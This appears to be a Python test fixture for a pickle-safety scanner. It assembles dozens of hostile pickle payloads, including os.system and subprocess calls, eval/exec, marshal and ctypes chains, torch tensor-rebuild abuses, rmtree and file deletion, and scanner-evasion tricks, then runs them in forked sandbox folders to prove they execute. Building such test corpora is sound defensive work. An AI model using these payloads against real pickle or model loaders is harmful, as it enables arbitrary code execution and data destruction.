"""Hostile pickles, put together opcode by opcode.

Each payload makes a file "marker" in the working folder, or destroys "treasure" there, so that its run can be seen.
``PREPARED`` are the files that some of them need.
"""

import copyreg
import glob
import importlib
import json
import marshal
import os
import pickle
import signal
import struct
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path

MADE = "glob.glob('marker*')"
COMMAND, SOURCE = "touch marker", "open('marker', 'w')"


@dataclass(frozen=True)
class Raw:
    """Opcodes that leave one value on the stack."""

    code: bytes


@dataclass(frozen=True)
class Hostile:
    """A pickle that does something when unpickled, and the culprit that a reader must name.

    ``proof`` is an expression that holds after it ran. ``needs`` names what must be importable for it to run;
    a ``runnable`` one that finds it there must run. The rest (other systems' modules, say) must merely be refused.
    """

    name: str
    data: bytes
    culprit: str
    proof: str = MADE
    needs: str = ""
    runnable: bool = True


def encode(value: object) -> bytes:
    match value:
        case Raw(code):
            return code
        case None:
            return b"N"
        case bool():
            return b"\x88" if value else b"\x89"
        case int():
            data = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
            return b"\x8a" + bytes([len(data)]) + data
        case str():
            data = value.encode()
            return b"X" + struct.pack("<I", len(data)) + data
        case bytes():
            return b"B" + struct.pack("<I", len(value)) + value
        case tuple():
            return b"(" + b"".join(map(encode, value)) + b"t"
        case list():
            return b"](" + b"".join(map(encode, value)) + b"e"
        case dict():
            return b"}(" + b"".join(encode(key) + encode(each) for key, each in value.items()) + b"u"
    raise TypeError(type(value))


def name(module: str, attribute: str) -> Raw:
    return Raw(b"c" + module.encode() + b"\n" + attribute.encode() + b"\n")


def walked(module: str, attribute: str) -> Raw:
    """A global whose name may hold dots, as protocol 4 follows them."""
    return Raw(encode(module) + encode(attribute) + b"\x93")


def called(function: Raw, *args: object) -> Raw:
    return Raw(function.code + encode(args) + b"R")


def whole(value: object, protocol: int = 2) -> bytes:
    return b"\x80" + bytes([protocol]) + encode(value) + b"."


SYSTEM = name("os", "system")
EVIL = called(SYSTEM, COMMAND)


def first(*steps: Raw) -> bytes:
    """Steps whose values are kept in the memo under 0, 1, ... and taken off the stack."""
    return b"".join(step.code + b"q" + bytes([index]) + b"0" for index, step in enumerate(steps))


def kept(index: int) -> Raw:
    return Raw(b"h" + bytes([index]))


# --- files that payloads find beside them

_LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
EVIL_LEGACY = b"".join(
    pickle.dumps(each, 2) for each in (_LEGACY_MAGIC, 1001, {"protocol_version": 1001, "little_endian": True})
) + whole(EVIL)

PREPARED = {
    "treasure": b"gold",
    "script.py": SOURCE.encode(),
    "evil_module.py": SOURCE.encode(),
    "hubconf.py": b"def entry():\n    " + SOURCE.encode(),
    "evil.pth": b"import evil_module\n",
    "evil.pkl": whole(EVIL),
    "evil.torch": EVIL_LEGACY,
    "logging.ini": b"[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n"
    b"[handler_h]\nclass=StreamHandler\nargs=(" + SOURCE.encode() + b",)\n",
}
TYPED = SOURCE.encode() + b"\n" * 20
"""What stands on the standard input, for payloads that open a console."""

EXTENSIONS = {0x11: ("posix", "system"), 0x1111: ("os", "popen"), 0x11111111: ("subprocess", "getoutput")}
"""What the program that unpickles registered with copyreg."""


def _calls() -> list[Hostile]:
    """A call of one function: module, name, arguments. The name is the culprit."""
    sh = ["sh", "-c", COMMAND]
    calls: list[tuple[str, str, tuple[object, ...]]] = [
        ("os", "system", (COMMAND,)),
        ("posix", "system", (COMMAND,)),
        ("os", "popen", (COMMAND,)),
        ("os", "execv", ("/bin/sh", sh)),
        ("os", "execvp", ("sh", sh)),
        ("os", "spawnv", (0, "/bin/sh", sh)),
        ("os", "posix_spawn", ("/bin/sh", sh, {})),
        ("os", "mkdir", ("marker",)),
        ("os", "makedirs", ("marker/deep",)),
        ("os", "open", ("marker", 0o102)),
        ("os", "symlink", ("/", "marker")),
        ("os", "rename", ("treasure", "marker")),
        ("subprocess", "Popen", (["touch", "marker"],)),
        ("subprocess", "run", (["touch", "marker"],)),
        ("subprocess", "call", (["touch", "marker"],)),
        ("subprocess", "check_output", (["touch", "marker"],)),
        ("subprocess", "getoutput", (COMMAND,)),
        ("builtins", "eval", (SOURCE,)),
        ("builtins", "exec", (SOURCE,)),
        ("__builtin__", "eval", (SOURCE,)),
        ("builtins", "open", ("marker", "w")),
        ("builtins", "__import__", ("evil_module",)),
        ("io", "open", ("marker", "w")),
        ("_io", "FileIO", ("marker", "w")),
        ("codecs", "open", ("marker", "w")),
        ("importlib", "import_module", ("evil_module",)),
        ("pkgutil", "resolve_name", ("evil_module",)),
        ("pydoc", "locate", ("evil_module",)),
        ("pydoc", "pipepager", ("", "cat > marker")),
        ("site", "addsitedir", (".",)),
        ("runpy", "run_path", ("script.py",)),
        ("runpy", "run_module", ("evil_module",)),
        ("pty", "spawn", (["touch", "marker"],)),
        ("code", "interact", ()),
        ("timeit", "timeit", (SOURCE, "pass", name("time", "perf_counter"), 1)),
        ("cProfile", "run", (SOURCE,)),
        ("profile", "run", (SOURCE,)),
        ("pdb", "run", (SOURCE,)),
        ("doctest", "run_docstring_examples", (f">>> _ = {SOURCE}\n", {}, False, "x")),
        ("shutil", "copyfile", ("script.py", "marker")),
        ("shutil", "move", ("treasure", "marker")),
        ("shutil", "make_archive", ("marker", "tar", ".", "script.py")),
        ("tempfile", "mkdtemp", ("", "marker", ".")),
        ("logging", "FileHandler", ("marker",)),
        ("logging.config", "fileConfig", ("logging.ini",)),
        (
            "logging.config",
            "dictConfig",
            ({"version": 1, "handlers": {"h": {"()": "os.system", "command": COMMAND}}, "root": {"handlers": ["h"]}},),
        ),
        ("zipfile", "ZipFile", ("marker", "w")),
        ("tarfile", "open", ("marker", "w")),
        ("gzip", "open", ("marker", "w")),
        ("shelve", "open", ("marker",)),
        ("urllib.request", "urlretrieve", ("file:script.py", "marker")),
        ("pip", "main", (["--log", "marker", "list"],)),
        ("idlelib.calltip", "get_entity", (SOURCE,)),
        ("test.support.script_helper", "assert_python_ok", ("-c", SOURCE)),
        ("functools", "reduce", (name("builtins", "open"), ["w"], "marker")),
        ("asyncio", "run", (called(name("asyncio", "to_thread"), SYSTEM, COMMAND),)),
        ("types", "FunctionType", (called(name("builtins", "compile"), SOURCE, "x", "exec"), {})),
        ("pickle", "loads", (whole(EVIL),)),
        ("_pickle", "loads", (whole(EVIL),)),
        ("pickle", "_loads", (whole(EVIL),)),
        ("pickle", "load", (called(name("builtins", "open"), "evil.pkl", "rb"),)),
        ("numpy", "load", ("evil.pkl", None, True)),
        ("numpy", "save", ("marker", 1)),
        ("numpy", "memmap", ("marker", "uint8", "w+", 0, (4,))),
        ("numpy.testing._private.utils", "runstring", (SOURCE, {})),
        ("pandas", "read_pickle", ("evil.pkl",)),
        ("torch", "save", (1, "marker")),
        ("torch.storage", "_load_from_bytes", (EVIL_LEGACY,)),
        ("torch.hub", "_load_local", (".", "entry")),
        ("torch.jit.unsupported_tensor_ops", "execWrapper", (SOURCE, {}, {})),
        ("torch.utils.collect_env", "run", (COMMAND,)),
    ]
    then_called = {"FunctionType"}
    cases = []
    for module, function, args in calls:
        value = called(name(module, function), *args)
        if function in then_called:
            value = called(value)
        culprit = f"{module.replace('__builtin__', 'builtins')}.{function}"
        needs = f"{module}.{function}"
        cases.append(Hostile(f"call {needs}", whole(value), culprit, needs=needs))
    return cases


def _destroyers() -> list[Hostile]:
    gone = "not os.path.exists('treasure')"
    return [
        Hostile("os.remove", whole(called(name("os", "remove"), "treasure")), "os.remove", gone),
        Hostile(
            "os.truncate",
            whole(called(name("os", "truncate"), "treasure", 0)),
            "os.truncate",
            "not os.stat('treasure').st_size",
        ),
        Hostile("shutil.rmtree", whole(called(name("shutil", "rmtree"), ".")), "shutil.rmtree", gone),
        Hostile(
            "torch.serialization.add_safe_globals",
            whole(called(name("torch.serialization", "add_safe_globals"), [SYSTEM])),
            "torch.serialization.add_safe_globals",
            "os.system in torch.serialization.get_safe_globals()",
        ),
        Hostile(
            "os.environ",
            whole(called(walked("os", "environ.update"), {"PLANTED": "1"}), 4),
            "os.environ.update",
            "os.environ.get('PLANTED')",
        ),
        Hostile(
            "copyreg.add_extension",
            whole(called(name("copyreg", "add_extension"), "os", "system", 0x77)),
            "copyreg.add_extension",
            "copyreg._inverted_registry.get(0x77)",
        ),
    ]


def _walks() -> list[Hostile]:
    """Dotted names, which protocol 4 follows from attribute to attribute."""
    walks: list[tuple[str, str, tuple[object, ...]]] = [
        ("torch", "os.system", (COMMAND,)),
        ("torch.serialization", "os.system", (COMMAND,)),
        ("argparse", "_os.system", (COMMAND,)),
        ("pathlib", "os.system", (COMMAND,)),
        ("collections", "_sys.modules.__class__.__init__.__class__", ()),
        ("pathlib", "Path.touch", (called(name("pathlib", "PosixPath"), "marker"),)),
        ("bdb", "Bdb.run", (called(name("bdb", "Bdb")), SOURCE)),
        ("trace", "Trace.run", (called(name("trace", "Trace"), 0, 0), SOURCE)),
        ("code", "InteractiveInterpreter.runsource", (called(name("code", "InteractiveInterpreter")), SOURCE)),
        (
            "webbrowser",
            "GenericBrowser.open",
            (called(name("webbrowser", "GenericBrowser"), ["touch", "%s"]), "marker"),
        ),
        ("socket", "socket.bind", (called(name("socket", "socket"), 1, 1), "marker")),
        ("ctypes", "pythonapi.PyRun_SimpleString", (SOURCE.encode(),)),
        ("torch", "utils.collect_env.run", (COMMAND,)),
        ("torch", "ops.load_library", ("marker.so",)),
        ("torch", "hub._load_local", (".", "entry")),
    ]
    unrunnable = {"ops.load_library", "_sys.modules.__class__.__init__.__class__"}
    return [
        Hostile(
            f"walk {module} {attribute}",
            whole(called(walked(module, attribute), *args), 4),
            f"{module}.{attribute}",
            needs=module if attribute != "utils.collect_env.run" else "torch.utils.collect_env",
            runnable=attribute not in unrunnable,
        )
        for module, attribute, args in walks
    ]


def _opcodes() -> list[Hostile]:
    """The same call by every opcode that can make one, in every protocol."""
    command = COMMAND.encode()
    cases = [
        Hostile("protocol 0", b"cos\nsystem\n(S'" + command + b"'\ntR.", "os.system"),
        Hostile("protocol 0 by unicode", b"cos\nsystem\n(V" + command + b"\ntR.", "os.system"),
        Hostile("protocol 0 with memo", b"cos\nsystem\np0\n(S'" + command + b"'\np1\ntp2\nRp3\n.", "os.system"),
        Hostile("INST", b"(S'" + command + b"'\nios\nsystem\n.", "os.system"),
        Hostile("OBJ", b"(cos\nsystem\nS'" + command + b"'\no.", "os.system"),
        Hostile("binary memo", whole(Raw(SYSTEM.code + b"q\x05" + encode((COMMAND,)) + b"r\x07\0\0\0R")), "os.system"),
        Hostile(
            "memo by MEMOIZE", whole(Raw(first(SYSTEM) + b"N\x940" + called(kept(0), COMMAND).code), 4), "os.system"
        ),
        Hostile("memo by GET", whole(Raw(SYSTEM.code + b"p9\n0" + called(Raw(b"g9\n"), COMMAND).code)), "os.system"),
        Hostile(
            "memo by LONG_BINGET",
            whole(Raw(SYSTEM.code + b"r\0\1\0\0000" + called(Raw(b"j\0\1\0\0"), COMMAND).code)),
            "os.system",
        ),
        Hostile("memo swapped", whole(Raw(b"Nq\x000" + first(SYSTEM) + called(kept(0), COMMAND).code)), "os.system"),
        Hostile("by DUP", whole(Raw(SYSTEM.code + b"2" + encode((COMMAND,)) + b"R\x86")), "os.system"),
        Hostile("dropped by POP", whole(Raw(EVIL.code + b"0N")), "os.system"),
        Hostile("dropped by POP_MARK", whole(Raw(b"(" + EVIL.code + b"1N")), "os.system"),
        Hostile("STACK_GLOBAL", whole(called(walked("os", "system"), COMMAND), 4), "os.system"),
        Hostile(
            "STACK_GLOBAL of kept text",
            whole(Raw(first(Raw(encode("system")), Raw(encode("os"))) + b"h\1h\0\x93" + encode((COMMAND,)) + b"R"), 4),
            "os.system",
        ),
        Hostile("framed", b"\x80\x04\x95" + struct.pack("<Q", len(EVIL.code) + 1) + EVIL.code + b".", "os.system"),
        Hostile("EXT1", whole(Raw(b"\x82\x11" + encode((COMMAND,)) + b"R")), "EXT1"),
        Hostile("EXT2", whole(Raw(b"\x83\x11\x11" + encode((COMMAND,)) + b"R")), "EXT2"),
        Hostile("EXT4", whole(Raw(b"\x84\x11\x11\x11\x11" + encode((COMMAND,)) + b"R")), "EXT4"),
        Hostile(
            "NEWOBJ",
            whole(
                Raw(
                    name("builtins", "bytes").code
                    + encode((Raw(name("builtins", "map").code + encode((SYSTEM, [COMMAND])) + b"\x81"),))
                    + b"\x81"
                )
            ),
            "builtins.map",
        ),
        Hostile(
            "NEWOBJ_EX",
            whole(
                Raw(
                    name("builtins", "bytes").code
                    + encode((Raw(name("builtins", "filter").code + encode((SYSTEM, [COMMAND])) + b"}\x92"),))
                    + b"}\x92"
                ),
                4,
            ),
            "builtins.filter",
        ),
        Hostile(
            "BUILD of a partial",
            whole(
                called(
                    Raw(
                        called(name("functools", "partial"), SYSTEM).code
                        + encode((SYSTEM, (COMMAND,), {}, None))
                        + b"b"
                    )
                )
            ),
            "functools.partial",
        ),
        Hostile(
            "BUILD of a class",
            whole(Raw(name("argparse", "Namespace").code + encode((None, {"planted": 1})) + b"b")),
            "BUILD",
            "argparse.Namespace.planted",
        ),
        Hostile(
            "BUILD with a planted __setstate__",
            whole(
                Raw(
                    first(Raw(name("argparse", "Namespace").code + encode((None, {"__setstate__": SYSTEM})) + b"b"))
                    + called(name("argparse", "Namespace")).code
                    + encode(COMMAND)
                    + b"b"
                )
            ),
            "os.system",
        ),
        Hostile(
            "APPEND to what is no list",
            whole(Raw(called(name("builtins", "set")).code + b"0" + called(name("mailbox", "mbox"), "marker").code)),
            "mailbox.mbox",
        ),
        Hostile("a global alone", whole(name("evil_module", "open")), "evil_module.open"),
        Hostile(
            "the copyreg constructor",
            whole(
                called(
                    name("copy_reg", "_reconstructor"),
                    name("logging", "FileHandler"),
                    name("logging", "FileHandler"),
                    "marker",
                )
            ),
            "logging.FileHandler",
        ),
        Hostile(
            "an extension of its own",
            whole(
                Raw(
                    first(called(name("copyreg", "add_extension"), "os", "system", 0x33))
                    + b"\x82\x33"
                    + encode((COMMAND,))
                    + b"R"
                )
            ),
            "copyreg.add_extension",
        ),
        Hostile("garbage after the payload", b"\x80\x02" + EVIL.code + b"\xff\xfe nonsense", "os.system"),
        Hostile("cut after the payload", b"\x80\x02" + EVIL.code, "os.system"),
        Hostile("a broken stack after the payload", b"\x80\x02" + EVIL.code + b"bbbb.", "os.system"),
        Hostile(
            "a lying frame after the payload", b"\x80\x04" + EVIL.code + b"\x95" + b"\xff" * 7 + b"\x7fN.", "os.system"
        ),
        Hostile("far behind plain data", whole(Raw(b"N0" * 50_000 + EVIL.code)), "os.system"),
    ]
    cases += [Hostile(f"protocol {each}", whole(EVIL, each), "os.system") for each in range(2, 6)]
    return cases


def _chains() -> list[Hostile]:
    """Payloads of several harmless-looking steps."""
    touched = called(name("builtins", "getattr"), called(name("pathlib", "Path"), "marker"), "touch")
    code = marshal.dumps(compile(SOURCE, "x", "exec"))
    return [
        Hostile("getattr of a path", whole(called(touched)), "builtins.getattr"),
        Hostile(
            "getattr of a module",
            whole(
                called(
                    called(name("builtins", "getattr"), called(name("importlib", "import_module"), "os"), "system"),
                    COMMAND,
                )
            ),
            "builtins.getattr",
        ),
        Hostile(
            "compile and exec",
            whole(
                Raw(
                    first(called(name("builtins", "compile"), SOURCE, "x", "exec"))
                    + called(name("builtins", "exec"), kept(0)).code
                )
            ),
            "builtins.compile",
        ),
        Hostile(
            "marshal",
            whole(
                Raw(
                    first(called(name("marshal", "loads"), code))
                    + called(called(name("types", "FunctionType"), kept(0), {})).code
                )
            ),
            "marshal.loads",
        ),
        Hostile(
            "ctypes",
            whole(
                Raw(
                    first(called(name("ctypes", "CDLL"), None))
                    + called(called(name("builtins", "getattr"), kept(0), "system"), COMMAND.encode()).code
                )
            ),
            "ctypes.CDLL",
        ),
        Hostile(
            "operator.methodcaller",
            whole(called(called(name("operator", "methodcaller"), "touch"), called(name("pathlib", "Path"), "marker"))),
            "operator.methodcaller",
        ),
        Hostile(
            "operator.attrgetter",
            whole(
                called(
                    called(called(name("operator", "attrgetter"), "touch"), called(name("pathlib", "Path"), "marker"))
                )
            ),
            "operator.attrgetter",
        ),
        Hostile(
            "functools.partial",
            whole(called(called(name("functools", "partial"), SYSTEM, COMMAND))),
            "functools.partial",
        ),
        Hostile(
            "a default of defaultdict",
            whole(
                Raw(
                    first(
                        called(
                            name("collections", "defaultdict"), called(name("functools", "partial"), SYSTEM, COMMAND)
                        )
                    )
                    + called(name("operator", "getitem"), kept(0), "x").code
                )
            ),
            "functools.partial",
        ),
        Hostile(
            "a list of a map",
            whole(called(name("builtins", "list"), called(name("builtins", "map"), SYSTEM, [COMMAND]))),
            "builtins.map",
        ),
        Hostile(
            "a set of a map",
            whole(called(name("builtins", "set"), called(name("builtins", "map"), SYSTEM, [COMMAND]))),
            "builtins.map",
        ),
        Hostile(
            "a deque of a map",
            whole(called(name("collections", "deque"), called(name("itertools", "starmap"), SYSTEM, [(COMMAND,)]))),
            "itertools.starmap",
        ),
        Hostile(
            "torch.load told to trust",
            whole(
                Raw(
                    first(name("torch", "load"))
                    + called(
                        Raw(
                            called(name("functools", "partial"), kept(0)).code
                            + encode((kept(0), ("evil.torch",), {"weights_only": False}, None))
                            + b"b"
                        )
                    ).code
                )
            ),
            "torch.load",
        ),
    ]


def _legal_torch() -> list[Hostile]:
    """Payloads in the arguments of what a torch file may well call."""
    meta = called(name("torch._utils", "_rebuild_meta_tensor_no_storage"), name("torch", "float32"), (1,), (1,), False)
    hooks = called(name("collections", "OrderedDict"))
    utils = "torch._utils"
    return [
        Hostile(
            "_rebuild_from_type_v2 with a function of its choice",
            whole(
                called(name("torch._tensor", "_rebuild_from_type_v2"), SYSTEM, name("torch", "Tensor"), (COMMAND,), {})
            ),
            "os.system",
        ),
        Hostile(
            "_rebuild_from_type_v2 with a class of its choice",
            whole(
                called(
                    name("torch._tensor", "_rebuild_from_type_v2"),
                    name("logging", "FileHandler"),
                    name("torch", "Tensor"),
                    ("marker",),
                    {},
                )
            ),
            "logging.FileHandler",
        ),
        Hostile(
            "_rebuild_tensor_v2",
            whole(called(name(utils, "_rebuild_tensor_v2"), EVIL, 0, (1,), (1,), False, hooks)),
            "os.system",
        ),
        Hostile(
            "the size of a tensor",
            whole(called(name("torch", "Size"), [called(name("os", "system"), COMMAND)])),
            "os.system",
        ),
        Hostile(
            "a parameter's state",
            whole(called(name(utils, "_rebuild_parameter_with_state"), meta, False, hooks, {"x": EVIL})),
            "os.system",
        ),
        Hostile(
            "a parameter's hooks", whole(called(name(utils, "_rebuild_parameter"), meta, False, EVIL)), "os.system"
        ),
        Hostile(
            "_rebuild_wrapper_subclass",
            whole(
                called(
                    name(utils, "_rebuild_wrapper_subclass"),
                    EVIL,
                    name("torch", "float32"),
                    (1,),
                    (1,),
                    0,
                    None,
                    "cpu",
                    False,
                )
            ),
            "os.system",
        ),
        Hostile(
            "_rebuild_device_tensor_from_numpy",
            whole(
                called(name(utils, "_rebuild_device_tensor_from_numpy"), EVIL, name("torch", "float32"), "cpu", False)
            ),
            "os.system",
        ),
        Hostile(
            "_rebuild_sparse_tensor", whole(called(name(utils, "_rebuild_sparse_tensor"), EVIL, (1, 2))), "os.system"
        ),
        Hostile(
            "_rebuild_qtensor",
            whole(called(name(utils, "_rebuild_qtensor"), EVIL, 0, (1,), (1,), (1, 2), False, hooks)),
            "os.system",
        ),
        Hostile("OrderedDict's entries", whole(called(name("collections", "OrderedDict"), [["x", EVIL]])), "os.system"),
        Hostile("OrderedDict's state", whole(Raw(hooks.code + encode({"x": EVIL}) + b"b")), "os.system"),
        Hostile("Counter", whole(called(name("collections", "Counter"), {"x": EVIL})), "os.system"),
        Hostile("a key", whole(Raw(b"}" + EVIL.code + b"Ns")), "os.system"),
        Hostile("a numpy dtype", whole(called(name("numpy", "dtype"), EVIL)), "os.system"),
        Hostile("beside weights", whole({"state_dict": {"x": 1}, "optimizer": [{"lr": EVIL}]}), "os.system"),
    ]


def _elsewhere() -> list[Hostile]:
    """What does not run here, be it that the module is another system's."""
    missing = [("nt", "system"), ("apport.report", "root_command_output"), ("commands", "getoutput"), ("dill", "loads")]
    missing += [
        ("joblib", "load"),
        ("cloudpickle", "loads"),
        ("winreg", "SetValue"),
        ("torch.jit", "load"),
        ("os ", "system"),
    ]
    missing += [
        ("\u043es", "system"),
        ("os\x00", "system"),
        ("torch.serialization", "load"),
        ("keras.models", "load_model"),
    ]
    cases = [
        Hostile(
            f"elsewhere {module!a} {function}",
            whole(called(walked(module, function), COMMAND), 4),
            "" if not f"{module}.{function}".isprintable() else f"{module}.{function}",
            runnable=False,
        )
        for module, function in missing
    ]
    # pickletools would read this as builtins.eval, which the unpickler does not
    escaped = called(name("builtins", "ev\\x61l"), SOURCE)
    cases.append(Hostile("an escape in a name", whole(escaped), "builtins.ev\\x61l", runnable=False))
    return cases


HOSTILE = [*_calls(), *_destroyers(), *_walks(), *_opcodes(), *_chains(), *_legal_torch(), *_elsewhere()]


# --- what watches that nothing runs


class Watch:
    """What Python's audit hooks see while it is open: imports, opened files, calls of the system, compiled code, ..."""

    def __init__(self):
        self.events = []
        self.open = False
        sys.addaudithook(self.see)

    def see(self, event, args):
        if self.open and event != "builtins.id":
            self.events.append((event, args))

    def __enter__(self):
        self.events.clear()
        self.open = True
        return self.events

    def __exit__(self, *_):
        self.open = False


WATCH = Watch()


# --- the proof that they run: Python's own unpickler, in a process of its own for each


INNOCENT = [
    Hostile(f"innocent {index}", whole({"weight": 1}), "", proof)
    for index, proof in enumerate(dict.fromkeys(case.proof for case in HOSTILE))
]
"""For each proof a pickle that does nothing, so that the proof itself is proven."""


def prove(folder: Path) -> dict[str, str]:
    """Unpickle all that are runnable with Python's pickle, below ``folder``: "ran", "absent" or "nothing", by name."""
    subprocess.run([sys.executable, "-W", "ignore", __file__, str(folder)], check=True, capture_output=True)
    return json.loads((folder / "proofs.json").read_text())


def _prove(folder: Path) -> None:
    importlib.import_module("torch.hub")
    importlib.import_module("numpy")
    for code, (module, function) in EXTENSIONS.items():
        copyreg.add_extension(module, function, code)
    places = {}
    for index, case in enumerate(HOSTILE + INNOCENT):
        if case.runnable:
            place = places[case.name] = folder / str(index)
            place.mkdir()
            for file, content in PREPARED.items():
                (place / file).write_bytes(content)
            child = os.fork()
            if child == 0:
                _run(case, place)
            os.waitpid(child, 0)
    # Some payloads leave a process behind that does the deed a moment later
    deadline = time.monotonic() + 20
    late = [place for name, place in places.items() if not name.startswith("innocent")]
    while any(_proof(place) == "nothing" for place in late) and time.monotonic() < deadline:
        time.sleep(0.1)
    proofs = {name: _proof(place) for name, place in places.items()}
    (folder / "proofs.json").write_text(json.dumps(proofs))


def _proof(place: Path) -> str:
    if (place / "absent").exists():
        return "absent"
    return "ran" if (place / "proven").exists() or list(place.glob("marker*")) else "nothing"


def _run(case: Hostile, place: Path) -> None:
    """In a child: never returns."""
    signal.alarm(60)
    os.chdir(place)
    sys.path.insert(0, "")
    Path("typed").write_bytes(TYPED)
    for number, file in enumerate(("typed", os.devnull, os.devnull)):
        os.dup2(os.open(file, os.O_RDWR), number)
    sys.stdin, sys.stdout, sys.stderr = (os.fdopen(number, mode) for number, mode in enumerate("rww"))
    if case.needs and not _is_there(case.needs):
        Path("absent").touch()
        os._exit(0)
    try:
        pickle.loads(case.data)
    except BaseException as error:
        Path("error").write_text(repr(error))
    if eval(case.proof, {"glob": glob, "os": os, **sys.modules}):
        Path("proven").touch()
    os._exit(0)


def _is_there(full: str) -> bool:
    if full.startswith("__builtin__"):
        return True
    module, _, attribute = full.rpartition(".")
    try:
        if module and hasattr(importlib.import_module(module), attribute):
            return True
        importlib.import_module(full)
    except ImportError:
        return False
    return True


if __name__ == "__main__":
    _prove(Path(sys.argv[1]))
